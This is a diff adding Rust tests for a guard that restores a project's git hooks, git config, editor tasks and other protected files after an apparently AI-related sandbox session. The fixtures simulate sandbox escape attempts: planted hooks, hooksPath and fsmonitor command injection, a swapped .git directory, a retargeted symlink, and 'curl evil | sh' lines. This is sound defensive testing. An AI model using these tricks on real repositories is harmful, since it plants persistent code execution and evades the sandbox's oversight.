@@ -1,0 +1,137 @@
+//! The guard on a real directory: every sidestep of the read-only mounts is undone, an untouched
+//! project is left untouched, and nothing is deleted (the sandbox's versions are set aside).
+
+use super::*;
+
+struct Fixture {
+    _tmp: tempfile::TempDir,
+    project: PathBuf,
+    store: PathBuf,
+    quarantine: PathBuf,
+}
+
+fn fixture() -> Fixture {
+    let tmp = tempfile::tempdir().unwrap();
+    let project = tmp.path().join("p");
+    fs::create_dir_all(project.join(".git/hooks")).unwrap();
+    fs::create_dir_all(project.join(".git/objects")).unwrap();
+    fs::write(project.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+    fs::write(project.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
+    fs::write(project.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
+    fs::create_dir_all(project.join(".vscode")).unwrap();
+    fs::write(project.join(".vscode/tasks.json"), "{}\n").unwrap();
+    fs::write(project.join("main.rs"), "fn main() {}\n").unwrap();
+    let store = tmp.path().join("store");
+    let quarantine = tmp.path().join("quarantine");
+    Fixture { project, store, quarantine, _tmp: tmp }
+}
+
+fn run(f: &Fixture, change: impl FnOnce(&Path)) -> Vec<String> {
+    let rels = candidates(&["scripts/deploy.sh".into()]);
+    let m = snapshot(&f.project, &rels, &f.store, "s1").unwrap();
+    change(&f.project);
+    let loaded = load(&f.store).unwrap();
+    assert_eq!(loaded.entries, m.entries);
+    verify_and_restore(&loaded, &f.quarantine).unwrap()
+}
+
+#[test]
+fn an_untouched_project_is_left_alone_and_ordinary_files_are_not_watched() {
+    let f = fixture();
+    let report = run(&f, |p| {
+        fs::write(p.join("main.rs"), "fn main() { println!(); }\n").unwrap();
+        fs::write(p.join(".git/objects/ab"), "object").unwrap();
+    });
+    assert!(report.is_empty(), "{report:?}");
+    assert_eq!(fs::read_to_string(f.project.join("main.rs")).unwrap(), "fn main() { println!(); }\n");
+    assert!(f.project.join(".git/objects/ab").exists(), "normal git work is not undone");
+}
+
+#[test]
+fn a_planted_hook_and_a_config_change_are_undone_and_kept_aside() {
+    let f = fixture();
+    let report = run(&f, |p| {
+        fs::write(p.join(".git/hooks/post-commit"), "#!/bin/sh\ntouch /tmp/pwned\n").unwrap();
+        fs::write(p.join(".git/config"), "[core]\n\thooksPath = /tmp/evil\n").unwrap();
+        fs::write(p.join(".envrc"), "curl evil | sh\n").unwrap();
+    });
+    assert_eq!(report.len(), 3, "{report:#?}");
+    assert!(!f.project.join(".git/hooks/post-commit").exists());
+    assert!(!f.project.join(".envrc").exists());
+    assert_eq!(fs::read_to_string(f.project.join(".git/config")).unwrap(), "[core]\n\tbare = false\n");
+    assert!(fs::read_to_string(f.quarantine.join(".git/config")).unwrap().contains("hooksPath"));
+    assert!(f.quarantine.join(".git/hooks/post-commit").exists(), "the sandbox's hook is kept aside");
+    assert!(report.iter().any(|l| l.starts_with(".git/config: changed during the session; restored")));
+    assert!(report.iter().any(|l| l.starts_with(".git/hooks/post-commit: created during the session")));
+}
+
+#[test]
+fn git_turned_into_a_gitdir_file_becomes_a_directory_again() {
+    let f = fixture();
+    let report = run(&f, |p| {
+        fs::rename(p.join(".git"), p.join("elsewhere")).unwrap();
+        fs::write(p.join(".git"), "gitdir: elsewhere-evil\n").unwrap();
+    });
+    assert!(f.project.join(".git").is_dir(), "{report:#?}");
+    assert_eq!(fs::read_to_string(f.project.join(".git/config")).unwrap(), "[core]\n\tbare = false\n");
+    assert!(f.project.join(".git/hooks/pre-commit.sample").exists());
+    assert_eq!(fs::read_to_string(f.quarantine.join(".git")).unwrap(), "gitdir: elsewhere-evil\n");
+    assert!(report[0].starts_with(".git: changed during the session"), "{report:#?}");
+    assert!(f.project.join("elsewhere/HEAD").exists(), "the renamed original is not deleted");
+}
+
+#[test]
+fn a_wholesale_replacement_of_git_is_named_with_where_the_original_went() {
+    let f = fixture();
+    let report = run(&f, |p| {
+        fs::rename(p.join(".git"), p.join(".git-old")).unwrap();
+        fs::create_dir_all(p.join(".git/hooks")).unwrap();
+        fs::write(p.join(".git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n").unwrap();
+        fs::write(p.join(".git/hooks/post-checkout"), "#!/bin/sh\n").unwrap();
+    });
+    let text = report.join("\n");
+    assert!(text.contains(".git: replaced by another directory") && text.contains(".git-old"), "{text}");
+    assert!(!fs::read_to_string(f.project.join(".git/config")).unwrap().contains("fsmonitor"));
+    assert!(!f.project.join(".git/hooks/post-checkout").exists());
+    assert!(f.project.join(".git/hooks/pre-commit.sample").exists(), "the original hooks are back");
+}
+
+#[test]
+fn deleted_and_retargeted_paths_come_back() {
+    let f = fixture();
+    fs::create_dir_all(f.project.join("scripts")).unwrap();
+    fs::write(f.project.join("scripts/deploy.sh"), "echo deploy\n").unwrap();
+    std::os::unix::fs::symlink("scripts/deploy.sh", f.project.join(".pnpmfile.cjs")).unwrap();
+    let report = run(&f, |p| {
+        fs::remove_dir_all(p.join(".vscode")).unwrap();
+        fs::remove_file(p.join(".pnpmfile.cjs")).unwrap();
+        std::os::unix::fs::symlink("/tmp/evil.cjs", p.join(".pnpmfile.cjs")).unwrap();
+        fs::write(p.join("scripts/deploy.sh"), "curl evil | sh\n").unwrap();
+    });
+    assert_eq!(fs::read_to_string(f.project.join(".vscode/tasks.json")).unwrap(), "{}\n", "{report:#?}");
+    assert_eq!(fs::read_link(f.project.join(".pnpmfile.cjs")).unwrap(), PathBuf::from("scripts/deploy.sh"));
+    assert_eq!(
+        fs::read_to_string(f.project.join("scripts/deploy.sh")).unwrap(),
+        "echo deploy\n",
+        "`protect` paths too"
+    );
+}
+
+#[test]
+fn protected_paths_that_exist_are_mounted_and_links_resolve_inside_the_project() {
+    let f = fixture();
+    fs::create_dir_all(f.project.join("tools")).unwrap();
+    fs::write(f.project.join("tools/env.sh"), "export A=1\n").unwrap();
+    std::os::unix::fs::symlink("tools/env.sh", f.project.join(".envrc")).unwrap();
+    std::os::unix::fs::symlink("/etc/hostname", f.project.join(".npmrc")).unwrap();
+    let mounts = existing_mounts(&f.project, &candidates(&[])).unwrap();
+    let rel: Vec<PathBuf> = mounts.iter().map(|m| relative(&f.project, m)).collect();
+    assert!(rel.contains(&PathBuf::from(".git/hooks")) && rel.contains(&PathBuf::from(".git/config")));
+    assert!(
+        rel.contains(&PathBuf::from(".vscode"))
+            && rel.contains(&PathBuf::from(".ai-sandbox")) == f.project.join(".ai-sandbox").exists()
+    );
+    assert!(rel.contains(&PathBuf::from("tools/env.sh")), "a link's target inside the project: {rel:?}");
+    assert!(!mounts.iter().any(|m| m.starts_with("/etc")), "never a path outside the project");
+    assert!(!rel.contains(&PathBuf::from(".envrc")), "links themselves are verified, not mounted");
+}
